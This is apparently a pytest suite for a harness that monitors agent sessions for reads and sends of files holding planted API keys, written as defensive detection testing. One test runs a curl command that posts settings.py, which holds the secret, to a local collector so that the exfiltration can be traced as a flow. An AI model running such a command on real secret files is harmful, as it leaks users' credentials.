"""Files that are secret for what they hold, in whole sessions: read, changed, replaced, made, and left alone."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from harness.guarded import Event, Guarded, of_kind
from harness.hurry import hurry_index
from harness.planted import Planted

pytestmark = pytest.mark.slow

SHELL = Path("/bin/sh").resolve().name
HARNESS = Path(__file__).resolve().parents[1] / "harness/under_seccomp.py"


def reads(events: list[Event]) -> list[tuple[str, str]]:
    """(name of the file, name of the reader)"""
    return [(Path(event["path"]).name, event["process"]["name"]) for event in of_kind(events, "file")]


@pytest.fixture
def settings(request: pytest.FixtureRequest, planted: Planted) -> str:
    """The text of settings.py; beside it are a notebook and a log that hold the planted key too."""
    fixture = "guarded_by_each" if "guarded_by_each" in request.fixturenames else "guarded"
    project: Path = request.getfixturevalue(fixture).project
    notebook = {"cells": [{"source": [f'client = OpenAI(api_key="{planted.openai}")\n']}]}
    contents = {
        "settings.py": f'DEBUG = False\nKEY = "{planted.openai}"\n',
        "demo.ipynb": json.dumps(notebook),
        "run.log": "started\n" * 9000 + f"DEBUG Authorization: Bearer {planted.openai}\n",
    }
    for name, content in contents.items():
        (project / name).write_text(content)
        (project / name).chmod(0o666)
    return contents["settings.py"]


class Driven:
    """An agent that does what it is told, while we look at what is recorded."""

    def __init__(self, guarded: Guarded) -> None:
        self._guarded = guarded
        self._process = subprocess.Popen(
            guarded.command("sh", "-s", options=("--quiet",)),
            cwd=guarded.project,
            env=guarded.environ,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        self.do("echo ready")
        assert self._process.stdout
        assert self._process.stdout.readline() == "ready\n"

    def do(self, command: str) -> None:
        assert self._process.stdin
        self._process.stdin.write(command + "\n")
        self._process.stdin.flush()

    def read_until_seen(self, *names: str) -> None:
        """Read these again and again until that is on record: the index lets everyone else go first."""
        wanted = {(Path(name).name, "cat") for name in names}
        deadline = time.monotonic() + 240
        while not wanted <= set(reads(self._guarded.events())):
            assert time.monotonic() < deadline, f"of {names}, only {reads(self._guarded.events())}"
            hurry_index(self._process.pid)
            time.sleep(0.3)
            self.do("cat " + " ".join(f"'{name}'" for name in names) + " > /dev/null")

    def end(self) -> None:
        assert self._process.stdin
        self._process.stdin.close()
        assert self._process.wait(60) == 0


def test_what_is_there_at_the_start_is_seen_at_once(guarded_by_each: Guarded, planted: Planted, settings: str) -> None:
    guarded = guarded_by_each
    (guarded.project / "readme.md").write_text("nothing\n")
    guarded.shell("cat settings.py demo.ipynb readme.md; tail -1 run.log")
    events = guarded.events()
    assert reads(events) == [("settings.py", "cat"), ("demo.ipynb", "cat"), ("run.log", "tail")]
    for read in of_kind(events, "file"):
        assert (read["attribution"], read["confidence"], read["file"]["kind"]) == ("exact", "exact-held", "content")
        (match,) = read["matches"]
        assert (match["type"], match["place"]) == ("openai-project-key", "file")
    assert of_kind(events, "gap") == []
    (index,) = (one for one in guarded.sessions()[0]["coverage"] if one["sensor"] == "index")
    assert (index["state"], index["proved"]) == ("stopped", True)
    assert index["reason"] == "4 files looked through, 3 held secrets"


def test_a_file_put_in_place_and_read_at_once(guarded_by_each: Guarded, planted: Planted, settings: str) -> None:
    """Twenty new inodes, each read within a millisecond of its rename: the open is held while it is looked into."""
    guarded = guarded_by_each
    script = (
        'for i in $(seq 0 19); do { echo "# $i"; cat run.log; } > aside$i; mv aside$i settings.py;'
        " read line < settings.py; done; cp demo.ipynb aside; mv aside demo.ipynb; exec cat demo.ipynb"
    )
    guarded.shell(script)
    seen = reads(guarded.events())
    known_as = [name for name, reader in seen if reader != "cat" and name != "demo.ipynb"]
    assert len(known_as) == 20, "by its new name, or by the one that the index found it under"
    assert all(name == "settings.py" or name.startswith("aside") for name in known_as)
    assert seen[-1] == ("demo.ipynb", "cat")


@pytest.mark.timeout(300)
def test_the_session_goes_on_and_so_does_the_index(guarded: Guarded, planted: Planted, settings: str) -> None:
    agent = Driven(guarded)
    agent.do("cp settings.py made.py")
    agent.do("mkdir -p 'new folder/deep'; cp settings.py 'new folder/deep/conf.py'")
    agent.do("mkdir old; cp run.log old/a.log; mv old renamed")
    agent.do("exec 3> late.log; echo started >&3; sleep 0.1; tail -1 run.log >&3")
    agent.read_until_seen("made.py", "new folder/deep/conf.py", "renamed/a.log", "late.log")
    agent.do("mv made.py moved.py; tail moved.py; echo nothing > settings.py; head settings.py; rm moved.py")
    agent.end()
    seen = reads(guarded.events())
    assert seen[-1] in {("moved.py", "tail"), ("made.py", "tail")}, "the same file under another name"
    assert ("settings.py", "head") not in seen, "it holds a secret no more"


def test_the_next_best_sensors_follow_it_too(guarded: Guarded, planted: Planted, settings: str) -> None:
    """Under another seccomp listener the kernel allows no second one."""
    script = (
        "sleep 1; exec 3< settings.py; sleep 1; cp run.log aside; mv aside settings.py; exec 3< settings.py; sleep 1"
    )
    inner = guarded.command("sh", "-c", script, options=("--quiet",))
    command = [sys.executable, HARNESS, str(planted.path), *inner]
    subprocess.run(command, cwd=guarded.project, env=guarded.environ, capture_output=True, check=True, timeout=60)
    assert [read for read in reads(guarded.events()) if read[0] == "settings.py"] == [("settings.py", SHELL)] * 2


def test_what_an_agent_reads_there_and_sends_is_a_flow(guarded: Guarded, planted: Planted, settings: str) -> None:
    with Collector() as url:
        guarded.shell(f"curl -s --data-binary @settings.py {url}")
    events = guarded.events()
    (read,) = of_kind(events, "file")
    (sent,) = (event for event in events if event["activity"] == "send")
    assert sent["flow"]["read"] == read["uid"]
    assert sent["matches"][0]["fingerprint"] == read["matches"][0]["fingerprint"]


class Collector:
    """A server on loopback that takes everything: its URL."""

    def __enter__(self) -> str:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None: ...

        self._server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self._server.server_port}/"

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def test_a_project_without_secrets_is_quiet_however_odd_it_is(guarded: Guarded) -> None:
    project = guarded.project
    for name in (".env.example", "settings.sample.py"):
        (project / name).write_text("OPENAI_API_KEY=sk-proj-your-key-here\nAWS=AKIA" + "IOSFODNN7" + "EXAMPLE\n")
    (project / "docker-compose.yml").write_text("environment:\n  DB: postgres://postgres:postgres@db:5432/shop\n")
    (project / "auth.py").write_text("def login(password):\n    token = make_token(password)\n    return token\n")
    (project / "package-lock.json").write_text('{"integrity": "sha512-' + "Ab3/xY9+" * 11 + '=="}\n')
    (project / "blob.bin").write_bytes(os.urandom(300_000))
    (project / "huge.csv").write_text("1,2,3\n" * 1_000_000)
    os.mkfifo(project / "pipe.py")
    (project / "loop").symlink_to(project)
    (project / "closed").mkdir(mode=0o000)
    guarded.shell(
        "cat .env.example settings.sample.py docker-compose.yml auth.py package-lock.json; sleep 1; touch a.py"
    )
    events = [event for event in guarded.events() if event["kind"] != "session"]
    assert [event for event in events if event["outcome"] != "clean" or event["kind"] != "gap"] == []
    assert [event["gap"]["detail"] for event in events] == [
        "1 files too large to be looked through to their end for secrets"
    ]
    assert guarded.sessions()[0]["outcome"] == "clean"
